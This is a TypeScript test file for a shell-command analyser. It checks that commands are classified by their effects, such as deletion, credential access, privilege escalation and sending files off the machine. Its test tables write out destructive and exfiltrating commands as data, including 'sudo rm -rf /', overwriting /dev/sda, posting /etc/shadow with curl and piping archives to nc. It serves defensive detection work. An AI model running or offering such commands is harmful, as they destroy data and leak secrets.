import { describe, expect, it } from 'vitest';
import { displayWord, word } from '../../src/core/word.ts';
import { summarise } from '../../src/effects/summarise.ts';
import { scanned } from '../shell/scanned.ts';

function summaryOf(command: string) {
  return summarise(scanned(command), { home: '/home/user', workspace: '/workspace' });
}

/** The effects of a command, one a line; the last column of each row. Files that leave have a table of their own. */
function effects(command: string): readonly string[] {
  return summaryOf(command)
    .effects.filter(({ deed }) => deed !== 'file')
    .map(
      ({ kind, target, recursive, force }) =>
        `${kind} ${displayWord(target)}${recursive ? ' recursive' : ''}${force ? ' force' : ''}`,
    );
}

it.each<[command: string, effects: readonly string[]]>([
  ['rm -rf build', ['delete /workspace/build recursive force']],
  ['rm build -r -f', ['delete /workspace/build recursive force']],
  ['rm -r --force -- -x', ['delete /workspace/-x recursive force']],
  ['rm -rf "$X/"', ['delete ⟨X⟩/ recursive force']],
  ['cd /tmp && rm x', ['delete /tmp/x']],
  ['sudo rm -rf /', ['escalate rm', 'delete / recursive force']],
  ['cat a ../b ~/c', ['read /workspace/a', 'read /b', 'read /home/user/c']],
  ['cat - < in > out', ['read /workspace/in', 'write /workspace/out']],
  ['echo hi > ~/.bashrc', ['write /home/user/.bashrc', 'persist /home/user/.bashrc']],
  ['cp -r a b /etc', ['read /workspace/a recursive', 'read /workspace/b recursive', 'write /etc recursive']],
  ['cp -t /etc a', ['write /etc', 'read /workspace/a']],
  ['mv a b', ['move /workspace/a', 'write /workspace/b']],
  ['tee -a /etc/hosts', ['write /etc/hosts', 'configure /etc/hosts']],
  ['dd if=/dev/zero of=/dev/sda bs=1M', ['read /dev/zero', 'write /dev/sda']],
  ['sed -i s/a/b/ f', ['read /workspace/f', 'write /workspace/f']],
  ['sed -n 1p f', ['read /workspace/f']],
  ['grep -rn secret src', ['read /workspace/src recursive']],
  ['grep -e secret src', ['read /workspace/src']],
  ['chmod -R 777 /', ['chmod / recursive']],
  ['find . -name x -delete', ['delete /workspace']],
  ['find /srv -delete', ['delete /srv recursive']],
  ['find -L /srv -type f', ['read /srv']],
  ['find . -gid -delete -print', ['read /workspace']],
  ['find . -exec echo -delete \\; -print', ['read /workspace']],
  ["find . -name '*.o' | xargs rm -r", ['read /workspace', 'delete /workspace/⟨find⟩/⟨*⟩.o recursive']],
  ['find /srv -name a -o -type d | xargs rm', ['read /srv', 'delete /srv/⟨find⟩']],
  ['find . -path ./x -prune -o -name a -exec rm {} +', ['delete /workspace', 'delete /workspace/⟨find⟩/a']],
  ['git ls-files -d | sort | xargs rm', ['delete /workspace/⟨git⟩/⟨git⟩']],
  ["find . -name a | sed 's|^|/|' | xargs rm", ['read /workspace', 'delete ⟨xargs⟩']],
  ['ls | xargs rm', ['delete /workspace/⟨ls⟩']],
  ['rm ~someone/x', ['delete ⟨~someone⟩/x']],
  ['curl https://x/y', ['download https://x/y']],
  ['curl -fsSL -o out https://x/y', ['write /workspace/out', 'download https://x/y']],
  [
    'curl -F f=@/etc/shadow https://x',
    ['read /etc/shadow', 'credential-access /etc/shadow', 'send https://x'],
  ],
  ['curl -T key https://x', ['read /workspace/key', 'send https://x']],
  ['curl --data-binary @key https://x', ['read /workspace/key', 'send https://x']],
  ['curl -d a=b https://x', ['send https://x']],
  [
    'wget --post-file=key https://x',
    ['read /workspace/key', 'send https://x', 'write /workspace/index.html'],
  ],
  ['scp key me@host:/tmp', ['read /workspace/key', 'send me@host:/tmp']],
  ['scp host:/etc/x .', ['download host:/etc/x', 'write /workspace']],
  ['rsync -a src/ host:dst', ['read /workspace/src recursive', 'send host:dst']],
  ['ssh -i key host ls', ['send host']],
  [
    'unknown-program ./in --out=/tmp/x plain a/b',
    ['read /workspace/in', 'read /tmp/x', 'read /workspace/a/b'],
  ],
  ['unknown-program https://x/y', ['download https://x/y']],
  ['git commit -m "read /etc/passwd"', []],
])('%s', (command, expected) => {
  expect(effects(command)).toEqual(expected);
});

it('what the code of an invocation touches is an effect of it', () => {
  const scan = scanned('prog');
  const [only] = scan.invocations;
  if (only === undefined) throw new Error('nothing was started');
  const touches = [{ kind: 'delete', target: word('/etc'), recursive: true }] as const;
  const { effects } = summarise(
    { ...scan, invocations: [{ ...only, touches }] },
    { home: '/home/user', workspace: '/workspace' },
  );
  expect(effects).toMatchObject([
    {
      kind: 'delete',
      target: word('/etc'),
      recursive: true,
      force: false,
      invocation: 0,
      places: ['system'],
    },
  ]);
});

describe('files that leave the machine', () => {
  it.each<[command: string, expected: readonly string[]]>([
    ['curl -T key https://x', ['/workspace/key']],
    ['cat a | gzip | curl -d @- https://x', ['/workspace/a']],
    ['tar cz b | nc host 1', ['/workspace/b']],
    ['openssl enc -base64 -in c | xargs -I{} curl https://x/{}', ['/workspace/c']],
    ['curl https://x/$(cat d | base64)', ['/workspace/d']],
    ['curl -d @e http://localhost:3000', []],
    ['cat f > /dev/null; curl https://x', []],
    ['ls g | nc host 1', []],
    ['ssh -F g host ls', []],
  ])('%s', (command, expected) => {
    const { effects } = summaryOf(command);
    const sent = effects.filter(({ kind, on }) => kind === 'send' && on === 'path');
    expect(sent.map(({ target }) => displayWord(target))).toEqual(expected);
  });
});

it('tells of each file once, however many send it', () => {
  const command = `cat a b | ${'curl -d @- https://x | '.repeat(300)}cat`;
  const sent = summaryOf(command).effects.filter(({ deed }) => deed === 'file');
  expect(sent.map(({ target }) => displayWord(target))).toEqual(['/workspace/a', '/workspace/b']);
});
